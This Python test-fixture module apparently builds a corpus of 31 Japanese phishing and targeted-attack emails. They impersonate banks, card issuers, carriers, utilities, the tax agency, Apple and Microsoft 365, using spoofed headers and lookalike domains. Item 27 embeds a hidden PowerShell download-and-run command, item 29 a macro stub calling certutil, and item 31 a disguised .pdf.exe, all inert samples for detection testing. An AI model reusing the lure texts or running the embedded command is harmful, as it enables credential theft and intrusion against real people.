"""The lures of ja23: 2024-26 Japanese phishing and targeted-mail themes, written for the tests."""
from make_ja23 import auth, received

ALL = []


def lure(name, **m):
    ALL.append((name, m))


def table(title, rows, button, href, foot):
    """The layout the kits copy from brand mail: a centred 600px table, a logo row, a button."""
    body = "".join(f"<tr><td style=\"padding:8px 24px;font-size:14px;line-height:1.7\">{r}</td></tr>"
                   for r in rows)
    return ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-8\"></head>"
            "<body style=\"margin:0;background:#f2f2f2\"><table width=\"100%\" cellpadding=\"0\" "
            "cellspacing=\"0\" border=\"0\"><tr><td align=\"center\"><table width=\"600\" cellpadding=\"0\""
            " cellspacing=\"0\" border=\"0\" style=\"background:#ffffff\">"
            f"<tr><td style=\"padding:16px 24px;border-bottom:3px solid #004098;font-weight:bold\">{title}"
            f"</td></tr>{body}<tr><td align=\"center\" style=\"padding:24px\"><a href=\"{href}\" "
            "style=\"display:inline-block;background:#d70c18;color:#fff;padding:12px 40px;"
            f"text-decoration:none;border-radius:4px\">{button}</a></td></tr>"
            f"<tr><td style=\"padding:16px 24px;font-size:11px;color:#666\">{foot}</td></tr>"
            "</table></td></tr></table></body></html>")


D = "Mon, 16 Nov 2026 {} +0900"

lure("01-etc-unpaid",
     cs="ISO-2022-JP",
     received=[received("mail.etc-meisai-info.cn", "unknown", "45.207.12.33", D.format("03:12:45"))],
     auth=auth("pass", "info@etc-meisai-info.cn", "none", None, "none", "etc-meisai-info.cn"),
     **{"from": ("ETC利用照会サービス", "info@etc-meisai-info.cn")},
     subject="【重要】ETC利用照会サービス　ご利用停止のお知らせ",
     date=D.format("03:12:40"), mid="20261116031240.7f3a@etc-meisai-info.cn",
     text="ETC利用照会サービスをご利用いただき、ありがとうございます。\n\n"
          "お客様のETCカードにおいて、未払いの通行料金が確認されました。\n"
          "このまま未払いの状態が続いた場合、ETCカードのご利用を停止させていただきます。\n"
          "２０２６年１１月１８日までに、下記よりお支払い情報のご確認をお願いいたします。\n\n"
          "▼ご利用状況の確認はこちら\nhttps://etc-meisai-info.cn/user/login\n\n"
          "※本メールは送信専用のため、ご返信いただいてもお答えできません。\n"
          "ETC利用照会サービス事務局")

lure("02-ekinet-withdrawal",
     received=[received("smtp.jreast-ekinet.top", "unknown", "156.251.21.4", D.format("08:01:12"))],
     auth=auth("pass", "support@jreast-ekinet.top", "none", None, "none", "jreast-ekinet.top"),
     **{"from": ("えきねっと", "support@jreast-ekinet.top")},
     subject="【えきねっと】自動退会処理についてのお知らせ",
     date=D.format("08:01:10"), mid="ekinet.1763247670@jreast-ekinet.top",
     html=table("えきねっと",
                ["いつもえきねっとをご利用いただきありがとうございます。",
                 "お客様のアカウントは一定期間ログインがないため、会員規約に基づき自動退会の対象となりました。",
                 "継続してご利用される場合は、４８時間以内にログインし、会員情報の更新を行ってください。",
                 "期限を過ぎますと、保有ポイントおよび予約情報はすべて失効いたします。"],
                "えきねっとにログインする", "https://www.eki-net.com.jreast-ekinet.top/Personal/member/",
                "東日本旅客鉄道株式会社　えきねっと事務局"))

lure("03-vpass-spoofed",
     cs="ISO-2022-JP",
     received=[received("vps-4471.hostinger-jp.net", "vps-4471.hostinger-jp.net", "103.97.3.45",
                        D.format("10:33:02"))],
     auth=auth("softfail", "info@vpass.ne.jp", "none", None, "fail", "vpass.ne.jp", "REJECT",
               "103.97.3.45"),
     **{"from": ("三井住友カード", "info@vpass.ne.jp")},
     subject="【三井住友カード】ご利用確認のお願い",
     date=D.format("10:33:00"), mid="202611161033.vp8812@vpass.ne.jp",
     text="三井住友カードをご利用いただき、誠にありがとうございます。\n\n"
          "弊社では、第三者による不正利用防止のため、カードのご利用内容をモニタリングしております。\n"
          "お客様のカードについて、不正利用の可能性があるお取引を検知いたしました。\n"
          "お手数ですが、Vpassにログインのうえ、ご本人様確認をお願いいたします。\n\n"
          "https://vpass.ne.jp.smbc-check.top/login/\n\n"
          "ご確認いただけない場合、カードのご利用を一時的に制限させていただきますので、あらかじめご了承ください。\n\n"
          "三井住友カード株式会社")

lure("04-myjcb-payment",
     received=[received("mta3.kusrtv.com", "mta3.kusrtv.com", "38.54.88.101", D.format("12:20:51"))],
     auth=auth("pass", "bounce@kusrtv.com", "pass", "kusrtv.com", "none", "kusrtv.com",
               ip="38.54.88.101"),
     dkim="kusrtv.com",
     **{"from": ("MyJCB", "myjcb@kusrtv.com")},
     subject="【MyJCB】お支払い方法の確認が必要です",
     date=D.format("12:20:49"), mid="jcb-20261116-0912@kusrtv.com",
     text="MyJCBをご利用のお客様\n\nご登録のお支払い口座からの引き落としができませんでした。\n"
          "カード番号・有効期限・セキュリティコードをご確認のうえ、お支払い情報を更新してください。\n"
          "https://myjcb.jcb-kakunin.shop/member/update\n\n株式会社ジェーシービー",
     html="<html><body><table width=\"600\" align=\"center\"><tr><td><b>MyJCB</b></td></tr><tr><td>"
          "<p>MyJCBをご利用のお客様</p><p>ご登録のお支払い口座からの引き落としができませんでした。<br>"
          "カード番号・有効期限・セキュリティコードをご確認のうえ、お支払い情報を更新してください。</p>"
          "<p><a href=\"https://myjcb.jcb-kakunin.shop/member/update\">お支払い情報を更新する</a></p>"
          "<p>株式会社ジェーシービー</p></td></tr></table></body></html>")

lure("05-rakuten-card-sjis",
     cs="Shift_JIS", hcs="ISO-2022-JP",
     received=[received("User", "unknown", "183.81.170.2", D.format("14:02:33"), tls=False)],
     auth=auth("pass", "rkcard@nvbwq.cn", "none", None, "none", "nvbwq.cn", ip="183.81.170.2"),
     **{"from": ("楽天カード株式会社", "rkcard@nvbwq.cn")},
     subject="【楽天カード】お客様情報確認のお願い",
     date=D.format("14:02:30"), mid="000001dc5b2a$4e0f1a20$@nvbwq.cn",
     extra=["X-Mailer: Microsoft Outlook 16.0"],
     text="楽天カードをご利用いただき誠にありがとうございます。\n\n"
          "現在、お客様のカードのご利用に関して、ご本人様のご利用かどうかの確認が必要なお取引がございます。\n"
          "楽天e-NAVIへログインし、ご登録情報の確認をお願いいたします。\n"
          "ご確認いただけない場合、カードのご利用制限を継続させていただきます。\n\n"
          "■楽天e-NAVI\nhttps://rakuten-card-co-jp.nvbwq.cn/e-navi/members/\n\n"
          "楽天カード株式会社\n東京都港区南青山2-6-21")

lure("06-rakuten-ichiba-account",
     received=[received("mail.rakuten-shop-jp.com", "unknown", "154.92.15.60", D.format("16:45:21"))],
     auth=auth("pass", "info@rakuten-shop-jp.com", "none", None, "none", "rakuten-shop-jp.com",
               ip="154.92.15.60"),
     **{"from": ("楽天市場", "info@rakuten-shop-jp.com")},
     subject="【楽天市場】アカウントの一時停止について",
     date=D.format("16:45:20"), mid="rk.20261116.164520@rakuten-shop-jp.com",
     html=table("Rakuten 楽天市場",
                ["楽天会員様", "お客様のアカウントで異常なログインが検出されたため、アカウントを一時的に停止しております。",
                 "引き続きご利用いただくには、本人確認のためログインのうえ、会員情報を再登録してください。",
                 "２４時間以内に確認が取れない場合、アカウントは永久に停止されます。"],
                "本人確認を行う", "https://rakuten-shop-jp.com/login/id",
                "楽天グループ株式会社"))

lure("07-amazon-payment-update",
     received=[received("ip-172-31-9-14", "ec2-3-112-90-18.ap-northeast-1.compute.amazonaws.com",
                        "3.112.90.18", D.format("19:09:17"))],
     auth=auth("none", "ec2-user@ip-172-31-9-14", "none", None, "none", "amazon-co-jp.ptrx.top",
               ip="3.112.90.18"),
     **{"from": ("Amazon.co.jp", "account-update@amazon-co-jp.ptrx.top")},
     subject="Amazon.co.jp：お支払い方法の情報を更新してください",
     date=D.format("19:09:15"), mid="0100019a8e7d.amazon@amazon-co-jp.ptrx.top",
     html=table("amazon.co.jp",
                ["お客様", "Amazonプライムの会費のお支払いに使用されたカードの有効期限が切れているか、"
                 "ご登録の情報に誤りがあるため、お支払いを完了できませんでした。",
                 "お支払い方法の情報を更新するまで、お客様のアカウントは保留となり、ご注文の発送を停止いたします。",
                 "Amazonアカウントにサインインして、お支払い方法を更新してください。"],
                "お支払い方法を更新する", "https://amazon-co-jp.ptrx.top/ap/signin?openid=update",
                "Amazon.co.jp カスタマーサービス"))

lure("08-aupay-points",
     cs="ISO-2022-JP",
     received=[received("mail.au-pay-point.com", "unknown", "45.66.211.90", D.format("20:14:00"))],
     auth=auth("pass", "point@au-pay-point.com", "none", None, "none", "au-pay-point.com",
               ip="45.66.211.90"),
     **{"from": ("au PAY", "point@au-pay-point.com")},
     subject="【au PAY】ポイント有効期限のお知らせ",
     date=D.format("20:13:58"), mid="aupay-20261116201358@au-pay-point.com",
     text="いつもau PAYをご利用いただきありがとうございます。\n\n"
          "お客様が保有されているPontaポイント　３，８００ポイントが、本日をもって失効いたします。\n"
          "ポイントを引き続きご利用いただくには、au IDでログインし、本人確認を完了してください。\n\n"
          "https://au-pay-point.com/auid/login\n\n"
          "ＫＤＤＩ株式会社")

lure("09-docomo-unpaid",
     received=[received("smtp.docomo-mypage.xyz", "unknown", "185.208.79.40", D.format("21:22:11"))],
     auth=auth("pass", "info@docomo-mypage.xyz", "none", None, "none", "docomo-mypage.xyz",
               ip="185.208.79.40"),
     **{"from": ("NTTドコモ", "info@docomo-mypage.xyz")},
     subject="【ドコモ】ご利用料金のお支払いが確認できません",
     date=D.format("21:22:10"), mid="dcm.8872.20261116@docomo-mypage.xyz",
     html=table("docomo",
                ["dアカウントをご利用のお客様", "今月のご利用料金のお支払いが確認できておりません。",
                 "本日中にお支払いが確認できない場合、回線のご利用を停止させていただきます。",
                 "My docomoにログインし、お支払い方法をご確認ください。"],
                "My docomoでお支払い", "https://docomo-mypage.xyz/dacc/login",
                "株式会社NTTドコモ"))

lure("10-softbank-sjis",
     cs="Shift_JIS", cte="8bit", hcs="ISO-2022-JP",
     received=[received("localhost", "unknown", "117.50.2.77", D.format("22:05:41"), tls=False)],
     auth=auth("softfail", "support@softbank.jp", "none", None, "fail", "softbank.jp", "REJECT",
               "117.50.2.77"),
     **{"from": ("SoftBank", "support@softbank.jp")},
     subject="【SoftBank】ご利用料金未払いのお知らせ",
     date=D.format("22:05:40"), mid="sb20261116220540.4411@softbank.jp",
     text="ソフトバンクをご利用いただき、ありがとうございます。\n\n"
          "お客様の今月分のご利用料金について、お支払いの確認がとれておりません。\n"
          "11月19日までにお支払い手続きが完了しない場合、ご利用停止となります。\n\n"
          "My SoftBankでのお支払い手続き\nhttp://softbank-pay.dzlmk.top/mysoftbank\n\n"
          "ソフトバンク株式会社")

lure("11-nta-arrears",
     cs="ISO-2022-JP",
     received=[received("mail.nta-go-jp.cn", "unknown", "43.226.1.5", D.format("09:01:55"))],
     auth=auth("pass", "info@nta-go-jp.cn", "none", None, "none", "nta-go-jp.cn", ip="43.226.1.5"),
     **{"from": ("国税庁", "info@nta-go-jp.cn")},
     subject="【国税庁】未払い税金のお支払いについて（最終通知）",
     date=D.format("09:01:50"), mid="nta-kokuzei-1763251310@nta-go-jp.cn",
     text="国税庁からのお知らせです。\n\n"
          "あなたの所得税（令和７年分）について、納付期限を過ぎても納付が確認できておりません。\n"
          "本通知は最終通知です。期限までに納付いただけない場合、国税徴収法に基づき、\n"
          "財産の差押え手続きを開始いたします。\n\n"
          "納付期限：令和８年１１月１８日\n未納税額：３８，５００円\n\n"
          "▼e-Taxによる納付手続き\nhttps://www.nta.go.jp.e-tax-nofu.cn/pay\n\n"
          "国税庁　徴収部")

lure("12-mynaportal-point",
     received=[received("mail.myna-point.shop", "unknown", "103.148.58.12", D.format("11:40:20"))],
     auth=auth("pass", "no-reply@myna-point.shop", "none", None, "none", "myna-point.shop",
               ip="103.148.58.12"),
     **{"from": ("マイナポータル", "no-reply@myna-point.shop")},
     subject="【マイナポータル】マイナポイント付与手続きのお知らせ（期限迫る）",
     date=D.format("11:40:18"), mid="myna-20261116-114018@myna-point.shop",
     html=table("マイナポータル",
                ["マイナンバーカードをお持ちの方へ",
                 "マイナポイント第３弾として、最大２０，０００円分のポイントを付与いたします。",
                 "申込期限は１１月２０日までです。下記よりマイナンバーカードの情報と、"
                 "ポイントを受け取るクレジットカード情報を登録してください。"],
                "ポイントを申し込む", "https://myna-point.shop/apply",
                "デジタル庁　マイナポータル運営事務局"))

lure("13-yamato-absent",
     cs="ISO-2022-JP",
     received=[received("ecs-119-8-22-30.compute.hwclouds-dns.com", "unknown", "119.8.22.30",
                        D.format("13:15:09"))],
     auth=auth("none", "root@ecs-119-8-22-30", "none", None, "none", "kuroneko-yamato.top",
               ip="119.8.22.30"),
     **{"from": ("ヤマト運輸", "info@kuroneko-yamato.top")},
     subject="【ヤマト運輸】お荷物お届けのお知らせ（ご不在連絡）",
     date=D.format("13:15:08"), mid="yamato.20261116131508@kuroneko-yamato.top",
     text="ヤマト運輸です。\n\nお客様宛にお荷物のお届けにあがりましたが、ご不在のため持ち帰りました。\n"
          "再配達をご希望の方は、下記ＵＲＬよりお手続きください。\n"
          "保管期限を過ぎますと、お荷物は差出人様へ返送されます。\n\n"
          "https://kuroneko-yamato.top/redelivery?no=4410-2289-0071\n\n"
          "ヤマト運輸株式会社")

lure("14-sagawa-address",
     received=[received("mail.sagawa-exp.cc", "unknown", "27.124.40.9", D.format("15:51:03"))],
     auth=auth("pass", "support@sagawa-exp.cc", "none", None, "none", "sagawa-exp.cc",
               ip="27.124.40.9"),
     **{"from": ("佐川急便", "support@sagawa-exp.cc")},
     subject="【佐川急便】お荷物の配達について（住所不明）",
     date=D.format("15:51:01"), mid="sgw1763275861@sagawa-exp.cc",
     text="佐川急便をご利用いただきありがとうございます。\n"
          "お客様宛のお荷物を配達いたしましたが、宛先住所が不明のため配達できませんでした。\n"
          "お届け先情報をご確認のうえ、再配達手数料（２２０円）のお支払いをお願いいたします。\n"
          "https://sagawa-exp.cc/confirm\n"
          "３日以内にお手続きがない場合、お荷物は返送されます。\n佐川急便株式会社")

lure("15-japanpost-redelivery",
     cs="ISO-2022-JP",
     received=[received("mail.post-japan.top", "unknown", "154.212.130.8", D.format("17:30:12"))],
     auth=auth("pass", "info@post-japan.top", "none", None, "none", "post-japan.top",
               ip="154.212.130.8"),
     **{"from": ("日本郵便", "info@post-japan.top")},
     subject="［日本郵便］ご不在のため持ち帰りました",
     date=D.format("17:30:10"), mid="jp-post-0071122@post-japan.top",
     text="郵便物お届けのお知らせ\n\nお客様宛の郵便物をお届けにあがりましたが、ご不在でした。\n"
          "再配達のお申し込みは、下記よりお手続きください。\n"
          "http://post-japan.top/redelivery/\n\n"
          "お問い合わせ番号：１２３４－５６７８－９０１２\n日本郵便株式会社")

lure("16-tepco-stop",
     received=[received("mail.kurashi-tepco.net", "unknown", "45.194.30.77", D.format("18:22:43"))],
     auth=auth("pass", "info@kurashi-tepco.net", "none", None, "none", "kurashi-tepco.net",
               ip="45.194.30.77"),
     **{"from": ("東京電力エナジーパートナー", "info@kurashi-tepco.net")},
     subject="【東京電力】電気料金未払いによる送電停止のお知らせ",
     date=D.format("18:22:40"), mid="tepco.20261116182240@kurashi-tepco.net",
     html=table("くらしTEPCO web",
                ["お客さまへ", "先月分の電気料金のお支払いが確認できておりません。",
                 "１１月２０日までにお支払いいただけない場合、電気の供給を停止させていただきます。",
                 "くらしTEPCO webにログインし、お支払い方法をご確認ください。"],
                "お支払い手続きへ", "https://kurashi-tepco.net/login",
                "東京電力エナジーパートナー株式会社"))

lure("17-kepco-unpaid",
     cs="ISO-2022-JP",
     received=[received("kepco-hapiemiruden.com", "unknown", "45.125.66.3", D.format("19:48:31"))],
     auth=auth("pass", "info@kepco-hapiemiruden.com", "none", None, "none",
               "kepco-hapiemiruden.com", ip="45.125.66.3"),
     **{"from": ("関西電力", "info@kepco-hapiemiruden.com")},
     subject="【関西電力】電気料金のお支払い確認のお願い",
     date=D.format("19:48:30"), mid="kepco-4412@kepco-hapiemiruden.com",
     text="はぴｅみる電をご利用のお客さまへ\n\n"
          "電気料金のお支払いが確認できておりません。\n"
          "至急、下記よりお支払い情報（クレジットカード）を更新してください。\n"
          "お手続きいただけない場合、電気の供給を停止いたします。\n\n"
          "https://kepco-hapiemiruden.com/pay/card\n\n関西電力株式会社")

lure("18-saison-netanswer",
     received=[received("mail.saisoncard-net.top", "unknown", "103.151.5.2", D.format("07:05:44"))],
     auth=auth("pass", "netanswer@saisoncard-net.top", "none", None, "none",
               "saisoncard-net.top", ip="103.151.5.2"),
     **{"from": ("セゾンカード", "netanswer@saisoncard-net.top")},
     subject="【セゾンカード】Netアンサー　ご登録情報確認のお願い",
     date=D.format("07:05:40"), mid="saison-20261116-070540@saisoncard-net.top",
     html=table("SAISON CARD",
                ["セゾンカードをご利用のお客様",
                 "Netアンサーのセキュリティ強化に伴い、ご登録情報の確認をお願いしております。",
                 "確認が完了するまで、一部のサービスのご利用を制限させていただきます。"],
                "Netアンサーにログイン", "https://saisoncard-net.top/NetAnswer/login",
                "株式会社クレディセゾン"))

lure("19-epos-fullwidth",
     cs="ISO-2022-JP",
     received=[received("sv1.epos-card-net.com", "unknown", "45.207.40.2", D.format("08:12:20"))],
     auth=auth("pass", "info@epos-card-net.com", "none", None, "none", "epos-card-net.com",
               ip="45.207.40.2"),
     **{"from": ("エポスカード", "info@epos-card-net.com")},
     subject="【エポスカード】ご利用確認のお願い",
     date=D.format("08:12:18"), mid="epos.88121@epos-card-net.com",
     text="エポスカード会員様\n\n"
          "お客様のカードに第三者による不正利用の疑いがあるお取引がございました。\n"
          "ご本人様確認のため、エポスＮｅｔへログインし、カード情報の確認をお願いいたします。\n"
          "確認期限：本メール受信後　２４時間以内\n\n"
          "ｈｔｔｐｓ：／／ｅｐｏｓ－ｃａｒｄ－ｎｅｔ．ｃｏｍ／ｌｏｇｉｎ\n"
          "https://epos-card-net.com/login\n\n株式会社エポスカード")

lure("20-aeon-card",
     received=[received("mail.aeon-kurashi.cn", "unknown", "43.249.37.9", D.format("09:40:11"))],
     auth=auth("pass", "info@aeon-kurashi.cn", "none", None, "none", "aeon-kurashi.cn",
               ip="43.249.37.9"),
     **{"from": ("イオンカード", "info@aeon-kurashi.cn")},
     subject="【イオンカード】暮らしのマネーサイト　ご利用制限のお知らせ",
     date=D.format("09:40:10"), mid="aeon20261116094010@aeon-kurashi.cn",
     html=table("AEON CARD",
                ["イオンカードをご利用のお客さまへ",
                 "お客さまのカードのご利用について、ご本人さまのご利用か確認させていただきたいお取引がありました。",
                 "暮らしのマネーサイトにログインし、カード情報と暗証番号をご入力ください。"],
                "暮らしのマネーサイトへ", "https://aeon-kurashi.cn/login",
                "イオンフィナンシャルサービス株式会社"))

lure("21-mufg-purpose",
     cs="ISO-2022-JP",
     received=[received("mail.bk-mufg-jp.com", "unknown", "156.238.20.11", D.format("10:21:00"))],
     auth=auth("pass", "info@bk-mufg-jp.com", "none", None, "none", "bk-mufg-jp.com",
               ip="156.238.20.11"),
     **{"from": ("三菱ＵＦＪ銀行", "info@bk-mufg-jp.com")},
     subject="【三菱ＵＦＪ銀行】お取引目的等の確認のお願い",
     date=D.format("10:20:58"), mid="mufg-1763256058@bk-mufg-jp.com",
     text="いつも三菱ＵＦＪ銀行をご利用いただき、誠にありがとうございます。\n\n"
          "当行では、マネー・ローンダリング等防止の観点から、お客さまのお取引目的等を定期的に確認しております。\n"
          "下記ＵＲＬよりご回答ください。ご回答いただけない場合、口座のお取引を制限させていただく場合がございます。\n\n"
          "https://bk-mufg-jp.com/kakunin/\n\n株式会社三菱ＵＦＪ銀行")

lure("22-mizuho-limit",
     received=[received("mizuho-direct-info.top", "unknown", "154.23.180.40", D.format("11:02:30"))],
     auth=auth("pass", "direct@mizuho-direct-info.top", "none", None, "none",
               "mizuho-direct-info.top", ip="154.23.180.40"),
     **{"from": ("みずほ銀行", "direct@mizuho-direct-info.top")},
     subject="【みずほ銀行】お取引制限のお知らせ",
     date=D.format("11:02:29"), mid="mzh.20261116110229@mizuho-direct-info.top",
     html=table("みずほダイレクト",
                ["みずほダイレクトをご利用のお客さま",
                 "お客さまの口座が不正に利用されている可能性があるため、お取引を制限いたしました。",
                 "制限を解除するには、ログインのうえ、ワンタイムパスワードとお客さま情報をご入力ください。"],
                "制限を解除する", "https://mizuho-direct-info.top/login",
                "株式会社みずほ銀行"))

lure("23-yucho-direct",
     cs="Shift_JIS", hcs="ISO-2022-JP",
     received=[received("User", "unknown", "123.56.90.12", D.format("12:44:00"), tls=False)],
     auth=auth("pass", "jp-bank@yucho-direct.cn", "none", None, "none", "yucho-direct.cn",
               ip="123.56.90.12"),
     **{"from": ("ゆうちょ銀行", "jp-bank@yucho-direct.cn")},
     subject="【ゆうちょ銀行】ゆうちょダイレクト　ご利用停止のお知らせ",
     date=D.format("12:43:58"), mid="yucho.20261116124358@yucho-direct.cn",
     text="ゆうちょダイレクトをご利用のお客さま\n\n"
          "お客さまの口座で不審なお取引が確認されたため、ゆうちょダイレクトのご利用を停止しております。\n"
          "お手続きいただけない場合は、口座を凍結させていただきます。\n"
          "下記よりログインのうえ、お客さま情報を確認してください。\n\n"
          "https://jp-bank.japanpost.jp.yucho-direct.cn/\n\n株式会社ゆうちょ銀行")

lure("24-apple-id-locked",
     received=[received("mail.apple-id-support.shop", "unknown", "43.153.40.2", D.format("13:11:12"))],
     auth=auth("pass", "noreply@apple-id-support.shop", "none", None, "none",
               "apple-id-support.shop", ip="43.153.40.2"),
     **{"from": ("Apple", "noreply@apple-id-support.shop")},
     subject="Apple ID がロックされました",
     date=D.format("13:11:10"), mid="apple-20261116131110@apple-id-support.shop",
     html=table("Apple",
                ["お客様の Apple ID が、セキュリティ上の理由によりロックされました。",
                 "不審なサインインが検出されたため、お客様のアカウントを保護しています。",
                 "ロックを解除するには、本人確認を行ってください。24時間以内に確認されない場合、アカウントは削除されます。"],
                "今すぐ確認する", "https://appleid.apple.com.verify-jp.top/",
                "Apple Japan合同会社"))

lure("25-m365-mailbox",
     received=[received("mail.office365-jp.net", "unknown", "20.8.91.4", D.format("14:30:40"))],
     auth=auth("pass", "admin@office365-jp.net", "none", None, "none", "office365-jp.net",
               ip="20.8.91.4"),
     **{"from": ("Microsoft 365 管理者", "admin@office365-jp.net")},
     subject="【要対応】メールボックスの容量が上限に達しました",
     date=D.format("14:30:39"), mid="m365-quota-4471@office365-jp.net",
     html=table("Microsoft 365",
                ["soumu@example-corp.co.jp 様",
                 "お使いのメールボックスの容量が上限（５０ＧＢ）に達しました。新しいメールを受信できません。",
                 "容量を追加するには、Microsoft 365 アカウントでサインインし、パスワードを再確認してください。"],
                "容量を追加する", "https://login-microsoftonline.office365-jp.net/common/oauth2",
                "Microsoft Corporation"))

def zipped(*names):
    import io
    import zipfile
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for n in names:
            # a fixed date, so that the files come out the same on every run
            z.writestr(zipfile.ZipInfo(n, (2026, 11, 16, 13, 30, 0)),
                       b"MZ\x90\x00" if n.endswith(".exe") else b"%PDF-1.7\n")
    return out.getvalue()


lure("26-ipa-interview-request",
     cs="ISO-2022-JP",
     received=[received("mail-qk1-f180.google.com", "mail-qk1-f180.google.com", "209.85.222.180",
                        D.format("15:02:10"))],
     auth=auth("pass", "shimbun.kisha2026@gmail.com", "pass", "gmail.com", "pass", "gmail.com",
               ip="209.85.222.180"),
     dkim="gmail.com",
     **{"from": ("毎朝新聞 経済部 佐藤", "shimbun.kisha2026@gmail.com")},
     subject="取材のお願い（重要インフラのサイバー対策について）",
     date=D.format("15:02:00"), mid="CAF2k9xQ7rP3w@mail.gmail.com",
     text="総務部 ご担当者様\n\n突然のご連絡失礼いたします。毎朝新聞経済部の佐藤と申します。\n"
          "現在、重要インフラ事業者のサイバーセキュリティ対策に関する特集記事を準備しております。\n"
          "つきましては、貴社の取り組みについて取材をお願いしたく、ご連絡いたしました。\n"
          "取材内容と質問項目をまとめた資料を下記にご用意しましたので、ご確認いただけますと幸いです。\n\n"
          "https://drive-share.kisha-files.top/d/shuzai_irai.zip\n\n"
          "ファイルはパスワード付きです。パスワード：2026\n\n"
          "毎朝新聞社 経済部 記者 佐藤")

lure("27-ipa-resume-lnk",
     cs="ISO-2022-JP",
     received=[received("mail-ej1-f41.google.com", "mail-ej1-f41.google.com", "209.85.218.41",
                        D.format("16:18:44"))],
     auth=auth("pass", "yamada.taro.job@gmail.com", "pass", "gmail.com", "pass", "gmail.com",
               ip="209.85.218.41"),
     dkim="gmail.com",
     **{"from": ("山田 太郎", "yamada.taro.job@gmail.com")},
     to="saiyo@example-corp.co.jp",
     subject="中途採用への応募（履歴書送付）",
     date=D.format("16:18:40"), mid="CAHq3Rm81x@mail.gmail.com",
     text="採用ご担当者様\n\n貴社の中途採用募集を拝見し、応募させていただきたくご連絡いたしました。\n"
          "履歴書と職務経歴書を添付いたしますので、ご査収のほどよろしくお願いいたします。\n"
          "ファイルが開けない場合は、お手数ですが「コンテンツの有効化」をクリックしてください。\n\n山田 太郎",
     attach=[("履歴書_職務経歴書.pdf.lnk", "application/octet-stream",
              bytes([0x4C, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46])
              + b"powershell -w hidden -c iwr http://45.77.10.3/a.ps1|iex")])

lure("28-ipa-inquiry-complaint",
     received=[received("mail.sakura-trading.co", "unknown", "160.16.40.20", D.format("17:40:05"))],
     auth=auth("pass", "info@sakura-trading.co", "none", None, "none", "sakura-trading.co",
               ip="160.16.40.20"),
     **{"from": ("さくら商事 品質管理部", "info@sakura-trading.co")},
     subject="納品物の不具合に関するお問い合わせ（至急ご確認ください）",
     date=D.format("17:40:00"), mid="20261116174000.qa01@sakura-trading.co",
     text="ご担当者様\n\nいつもお世話になっております。さくら商事 品質管理部の鈴木です。\n"
          "先日納品いただいた製品に不具合が多数発生しており、弊社顧客からクレームが届いております。\n"
          "不具合の詳細と写真をまとめましたので、至急ご確認のうえご回答をお願いいたします。\n\n"
          "詳細資料（Excel）：https://sakura-trading-docs.top/share/furyou_list.xlsm\n\n"
          "本日中にご回答いただけない場合、取引の見直しを検討させていただきます。\n\n"
          "さくら商事株式会社 品質管理部 鈴木")

lure("29-ipa-survey-macro",
     cs="ISO-2022-JP",
     received=[received("mail.research-jp.info", "unknown", "45.32.18.77", D.format("10:05:00"))],
     auth=auth("pass", "survey@research-jp.info", "none", None, "none", "research-jp.info",
               ip="45.32.18.77"),
     **{"from": ("重要インフラ防護調査事務局", "survey@research-jp.info")},
     subject="【ご協力のお願い】重要インフラ事業者向けセキュリティ実態アンケート",
     date=D.format("10:04:58"), mid="enq-2026-4471@research-jp.info",
     text="重要インフラ事業者 情報セキュリティご担当者様\n\n"
          "平素より格別のご高配を賜り、厚く御礼申し上げます。\n"
          "本調査事務局では、重要インフラ分野におけるセキュリティ対策の実態調査を実施しております。\n"
          "添付のアンケート票にご記入のうえ、１１月２７日までにご返送ください。\n"
          "※ファイルを開いた際に警告が表示された場合は「編集を有効にする」「コンテンツの有効化」を押してください。\n\n"
          "重要インフラ防護調査事務局",
     attach=[("アンケート票.docm", "application/vnd.ms-word.document.macroEnabled.12",
              b"PK\x03\x04\x14\x00\x06\x00word/vbaProject.bin\x00\xd0\xcf\x11\xe0Attribute VB_Name"
              b" = \"ThisDocument\"\r\nSub AutoOpen()\r\nShell \"cmd /c certutil -urlcache\"\r\nEnd Sub")])

lure("30-ipa-hr-notice",
     received=[received("mail.jinji-portal.com", "unknown", "45.76.201.13", D.format("09:15:20"))],
     auth=auth("pass", "jinji@jinji-portal.com", "none", None, "none", "jinji-portal.com",
               ip="45.76.201.13"),
     **{"from": ("人事部", "jinji@jinji-portal.com")},
     subject="【人事部】２０２７年度 人事異動・昇給に関するお知らせ",
     date=D.format("09:15:18"), mid="hr-2027-idou@jinji-portal.com",
     html=table("人事部からのお知らせ",
                ["社員各位", "２０２７年度の人事異動および昇給・賞与の査定結果を公開いたしました。",
                 "社内ポータルに社員IDとパスワードでサインインし、内容をご確認ください。",
                 "確認期限：１１月２０日（金）"],
                "査定結果を確認する", "https://jinji-portal.com/sso/login",
                "人事部 人事課"))

lure("31-ipa-document-resend",
     cs="ISO-2022-JP",
     received=[received("mail.tokai-kensetsu.biz", "unknown", "192.121.20.5", D.format("13:33:00"))],
     auth=auth("pass", "tanaka@tokai-kensetsu.biz", "none", None, "none", "tokai-kensetsu.biz",
               ip="192.121.20.5"),
     **{"from": ("東海建設 田中", "tanaka@tokai-kensetsu.biz")},
     subject="Re: 【差替え】お見積書の再送について",
     date=D.format("13:32:58"), mid="tk-20261116133258@tokai-kensetsu.biz",
     text="お世話になっております。東海建設の田中です。\n\n"
          "先ほどお送りした見積書に誤りがございましたので、差替え版を再送いたします。\n"
          "お手数ですが、旧版は破棄していただき、添付の最新版をご確認ください。\n"
          "解凍パスワードは別途お送りします。\n\n東海建設株式会社 営業部 田中",
     attach=[("【差替え】御見積書_最新版.zip", "application/zip",
              zipped("御見積書_最新版.pdf.exe"))])
